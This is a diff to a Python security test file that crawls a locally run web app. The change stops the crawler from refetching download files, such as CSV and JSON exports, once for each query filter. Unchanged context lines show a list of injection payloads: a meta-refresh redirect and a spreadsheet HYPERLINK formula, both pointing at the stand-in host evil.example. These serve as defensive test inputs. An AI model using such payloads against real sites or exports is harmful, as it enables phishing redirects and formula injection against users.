@@ -23,6 +23,7 @@ PAYLOADS = [
     "<meta http-equiv=refresh content=0;url=//evil.example/%s>", "=HYPERLINK(\"http://evil.example\",\"%s\")",
 ]
 BIDI = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")
+TAKEN_AWAY = re.compile(r"\.(txt|csv|ndjson|json|svg|tar\.gz|report\.html)$")
 CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
 VOID_OR_FINE = {"a", "abbr", "article", "aside", "b", "body", "br", "button", "caption", "code", "dd", "details", "div", "dl", "dt", "em", "fieldset", "figure",
                 "figcaption", "footer", "form", "h1", "h2", "h3", "h4", "h5", "head", "header", "hr", "html", "i", "input", "kbd", "label", "legend", "li", "link",
@@ -210,9 +211,11 @@ class Hostile(unittest.TestCase):
             connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
             while waiting and len(seen) < 1500:
                 path = waiting.pop(0)
-                if path in seen:
+                # What is taken away is large: once for each page, not for each of its filters.
+                key = path.split("?")[0] if TAKEN_AWAY.search(path.split("?")[0]) else path
+                if key in seen:
                     continue
-                seen.add(path)
+                seen.add(key)
                 connection.request("GET", path)
                 answer = connection.getresponse()
                 body = answer.read()
